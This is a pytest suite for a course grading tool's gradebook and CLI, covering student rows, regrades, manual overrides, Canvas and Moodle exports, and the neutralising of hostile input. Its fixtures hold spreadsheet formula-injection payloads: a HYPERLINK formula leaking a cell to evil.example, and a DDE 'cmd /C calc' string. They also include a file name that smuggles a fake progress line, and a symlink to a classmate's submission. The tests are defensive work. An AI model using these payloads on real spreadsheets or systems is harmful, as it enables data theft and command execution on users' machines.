"""Tests of course.grading.gradebook and of `course grade` as a teacher keeps a gradebook:
a student column, a regrade that keeps the other rows, overrides, LMS exports, and cells
that a spreadsheet never runs."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest

from course import exercises
from course.cli import main as course_main
from course.grading import gradebook
from course.grading.safe_text import FORMULA_STARTS

CORPUS = Path(__file__).parent / "corpus"
LESSON = "01_logistic_regression_numpy"
FULL_MARKS = f"{sum(e.points for e in exercises.for_lesson(LESSON)):g}"   # as the CSV writes it
FORMULA = '=HYPERLINK("evil.example?"&A1,"Click for your grade")'   # no "/": a folder name
# A file name cannot hold "/": the fake progress line uses the division slash U+2215.
FAKE_LINE = f"[9\u22159] fake.ipynb  {LESSON}  11\u221511  (1.0 s)"


def read_rows(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def write_report(out: Path, name: str, student: str, lesson: str = LESSON, score=1.5,
                 graded_at="2026-12-01T20:00:00Z") -> None:
    report = {"report_name": name, "student": student, "submission": f"{name}.ipynb",
              "lesson": lesson, "score": score + 2.0, "max_score": 5.0, "error": None,
              "flags": [], "graded_at": graded_at, "exercises": [
                  {"id": "sigmoid", "score": 2.0, "max_score": 2.0},
                  {"id": "compute_cost", "score": score, "max_score": 3.0}]}
    (out / f"{name}.json").write_text(json.dumps(report), encoding="utf-8")


def test_every_text_cell_is_neutralised_as_owasp_recommends(tmp_path):
    for number, start in enumerate(FORMULA_STARTS):
        write_report(tmp_path, f"s{number}", f"{start}cmd|' /C calc'!A0")
    gradebook.write_all(tmp_path)
    raw = (tmp_path / "grades.csv").read_text(encoding="utf-8")
    rows = read_rows(tmp_path / "grades.csv")
    # = + - @ get a quote; a tab, CR or NUL is shown as an escape (\x09), so starts no formula
    assert sorted(row["student"][:4] for row in rows) == sorted(
        ["'=cm", "'+cm", "'-cm", "'@cm", "\\x09", "\\x0d", "\\x00"])
    for line in raw.splitlines()[1:]:
        cells = next(csv.reader([line]))
        assert not any(cell.startswith(FORMULA_STARTS) for cell in cells), cells
        assert line.startswith('"') and line.endswith('"')   # every cell quoted


def test_control_a_plain_csv_writer_keeps_the_formula_live(tmp_path):
    """What the neutralising stops: Python's csv module writes the formula as it is."""
    with (tmp_path / "plain.csv").open("w", newline="") as handle:
        csv.writer(handle).writerow([FORMULA, 3])
    assert next(csv.reader([(tmp_path / "plain.csv").read_text()]))[0].startswith("=")


def test_the_gradebook_keeps_every_report_and_orders_by_student(tmp_path):
    write_report(tmp_path, "bob", "bob", score=3.0)
    write_report(tmp_path, "ada", "ada")
    (tmp_path / "ada.results.json").write_text('{"score": 1}')      # Gradescope's: not a row
    (tmp_path / "notes.json").write_text('{"anything": "else"}')
    gradebook.write_all(tmp_path)
    rows = read_rows(tmp_path / "grades.csv")
    assert [row["student"] for row in rows] == ["ada", "bob"]
    assert list(rows[0]) == ["student", "submission", "lesson", "sigmoid", "compute_cost",
                             "total", "max_total", "error", "flags", "graded_at", "report"]
    assert rows[0]["total"] == "3.5" and rows[1]["total"] == "5"


def test_overrides_apply_on_every_write_and_are_noted(tmp_path):
    write_report(tmp_path, "ada", "ada")
    write_report(tmp_path, "bob", "bob")
    overrides = tmp_path / "overrides.csv"
    overrides.write_text("student,exercise,points,reason\nada,compute_cost,3,regraded by hand\n"
                         "bob,total,4,late: -1\nzoe,sigmoid,1,\n")
    problems = gradebook.write_all(tmp_path, gradebook.read_overrides(overrides))
    ada, bob = read_rows(tmp_path / "grades.csv")
    assert (ada["compute_cost"], ada["total"]) == ("3", "5")
    assert ada["flags"] == "override: compute_cost = 3 (regraded by hand)"
    assert (bob["compute_cost"], bob["total"]) == ("1.5", "4")
    assert problems == ["override line 4: no report of 'zoe' has the exercise 'sigmoid'; "
                        "nothing changed"]
    report = json.loads((tmp_path / "ada.json").read_text())
    assert report["score"] == 3.5      # the report keeps what the grader found


@pytest.mark.parametrize("text, phrase", [
    ("student,exercise\nada,sigmoid\n", "missing: points"),
    ("student,exercise,points\nada,no_such_exercise,1\n", "line 2"),
    ("student,exercise,points\nada,sigmoid,-1\n", "≥ 0"),
    ("student,exercise,points\nada,sigmoid,lots\n", "got 'lots'"),
])
def test_a_bad_override_file_is_refused_naming_the_line(tmp_path, text, phrase):
    (tmp_path / "o.csv").write_text(text)
    with pytest.raises(gradebook.OverrideError, match=phrase):
        gradebook.read_overrides(tmp_path / "o.csv")


def test_canvas_and_moodle_exports_have_the_columns_each_imports(tmp_path):
    from course.grading.class_folder import Roster
    write_report(tmp_path, "ada-old", "s001", graded_at="2026-11-01T00:00:00Z", score=0.0)
    write_report(tmp_path, "ada", "s001")
    write_report(tmp_path, "bob", "bob", lesson="02_loss_and_cost")
    roster = Roster([{"submission": "ada", "student": "s001", "name": "Lovelace, Ada",
                      "canvas_id": "101", "sis_user_id": "S001", "sis_login_id": "ada",
                      "section": "A", "email": "ada@example.org", "idnumber": "S001",
                      "username": "ada"}])
    gradebook.write_all(tmp_path, exports=["canvas", "moodle"], roster=roster)
    canvas = read_rows(tmp_path / "canvas.csv")
    assert list(canvas[0]) == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section",
                               "01_logistic_regression_numpy", "02_loss_and_cost"]
    assert canvas[1] == {"Student": "Lovelace, Ada", "ID": "101", "SIS User ID": "S001",
                         "SIS Login ID": "ada", "Section": "A",
                         "01_logistic_regression_numpy": "3.5", "02_loss_and_cost": ""}
    moodle = read_rows(tmp_path / "moodle.csv")
    assert list(moodle[0]) == ["ID number", "Email address", "Username", "Student",
                               "01_logistic_regression_numpy", "02_loss_and_cost"]
    assert moodle[1]["Email address"] == "ada@example.org" and moodle[0]["Student"] == "bob"


# -- the class, graded and regraded with `course grade` ---------------------------------------
def build_class(root: Path) -> Path:
    """correct, blank, a link to a classmate, a duplicate, a hostile file name, a student
    whose folder name is a spreadsheet formula (an empty file: graded 0 without a kernel)."""
    submissions = root / "submissions"
    for student, source in (("ada", "self_contained"), ("bob", "untouched"),
                            ("carol", "self_contained")):
        (submissions / student).mkdir(parents=True)
        shutil.copy(CORPUS / f"{source}.ipynb", submissions / student / f"{LESSON}.ipynb")
    (submissions / "alice").mkdir()
    (submissions / "alice" / f"{LESSON}.ipynb").symlink_to(f"../bob/{LESSON}.ipynb")
    shutil.copy(CORPUS / "self_contained.ipynb", submissions / f"eve\n{FAKE_LINE}.ipynb")
    (submissions / FORMULA).mkdir()
    (submissions / FORMULA / f"{LESSON}.ipynb").write_text("")
    return submissions


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory):
    root = tmp_path_factory.mktemp("class")
    submissions, out, feedback = build_class(root), root / "grades", root / "feedback"
    runs = []
    for target in (submissions, submissions / "ada"):
        process_out = []
        status = course_main(["grade", str(target), "--out", str(out), "--jobs", "1",
                              "--feedback", str(feedback), "--format", "gradescope",
                              "--export", "canvas", "--export", "moodle"])
        assert status == 0
        process_out.append(read_rows(out / "grades.csv"))
        runs.append(process_out[0])
    return {"root": root, "out": out, "feedback": feedback, "first": runs[0],
            "second": runs[1]}


def test_every_file_has_one_row_with_its_student(graded_class):
    rows = {row["student"]: row for row in graded_class["second"]}
    assert sorted(rows) == sorted(["ada", "alice", "bob", "carol", "'" + FORMULA,
                                   f"eve\\x0a{FAKE_LINE}"])
    assert rows["ada"]["total"] == FULL_MARKS and rows["carol"]["total"] == FULL_MARKS
    assert rows["bob"]["total"] == "0"
    assert "symbolic link" in rows["alice"]["error"] and rows["alice"]["total"] == "0"
    assert "control characters" in rows[f"eve\\x0a{FAKE_LINE}"]["error"]
    assert "empty" in rows["'" + FORMULA]["error"]
    assert "same content as carol/" in rows["ada"]["flags"]
    assert "same content as ada/" in rows["carol"]["flags"]


def test_a_regrade_updates_only_its_rows_and_keeps_the_others(graded_class):
    first = {row["report"]: row for row in graded_class["first"]}
    second = {row["report"]: row for row in graded_class["second"]}
    assert sorted(first) == sorted(second) and len(second) == 6
    regraded = f"ada-{LESSON}"
    assert second[regraded]["graded_at"] >= first[regraded]["graded_at"]
    for name in second:
        if name != regraded:
            assert second[name] == first[name]
    assert all(row["graded_at"].endswith("Z") for row in second.values())


def test_no_cell_of_any_csv_can_run_as_a_formula(graded_class):
    for name in ("grades.csv", "canvas.csv", "moodle.csv"):
        for cells in csv.reader((graded_class["out"] / name).open(encoding="utf-8")):
            assert not any(cell.startswith(FORMULA_STARTS) for cell in cells), (name, cells)


def test_no_output_name_collides_and_no_name_carries_a_control_character(graded_class):
    out, feedback = graded_class["out"], graded_class["feedback"]
    reports = [json.loads(p.read_text()) for p in out.glob("*.json")
               if gradebook.is_report(json.loads(p.read_text()))]
    names = [r["report_name"] for r in reports]
    assert len(names) == len(set(n.casefold() for n in names)) == 6
    expected = {f"{n}{suffix}" for n in names for suffix in (".json", ".results.json")}
    # results.json: Gradescope's file of a run that graded one notebook (Ada's regrade)
    # and the class report, which course grade writes beside the gradebook
    assert {p.name for p in out.iterdir()} == expected | {
        "grades.csv", "canvas.csv", "moodle.csv", "results.json", "class_report.html",
        "class_report.md", "class_report_figures"}
    assert {p.name for p in feedback.iterdir()} == {f"{n}{s}" for n in names
                                                    for s in (".md", ".html")}
    for path in [*out.iterdir(), *feedback.iterdir()]:
        assert path.name.isprintable()


def test_a_hostile_file_name_injects_no_line_in_the_feedback_or_the_console(graded_class,
                                                                            capsys):
    feedback = graded_class["feedback"]
    for path in feedback.glob("*.md"):
        assert not any(line.startswith((FAKE_LINE[:5], "**Score: 11")) for line in
                       path.read_text(encoding="utf-8").splitlines())
    course_main(["grade", str(graded_class["root"] / "submissions" / f"eve\n{FAKE_LINE}.ipynb"),
                 "--out", str(graded_class["root"] / "console")])
    printed = capsys.readouterr().out
    assert FAKE_LINE not in printed.splitlines() and "eve\\x0a" + FAKE_LINE in printed


def test_the_gradebook_alone_is_rebuilt_with_an_override(graded_class, tmp_path):
    out = tmp_path / "copy"
    shutil.copytree(graded_class["out"], out)
    (tmp_path / "o.csv").write_text(f"student,exercise,points,reason\nbob,sigmoid,2,typo\n")
    assert course_main(["grade", "--out", str(out), "--override", str(tmp_path / "o.csv")]) == 0
    bob = next(row for row in read_rows(out / "grades.csv") if row["student"] == "bob")
    assert (bob["sigmoid"], bob["total"], bob["flags"]) == ("2", "2",
                                                            "override: sigmoid = 2 (typo)")
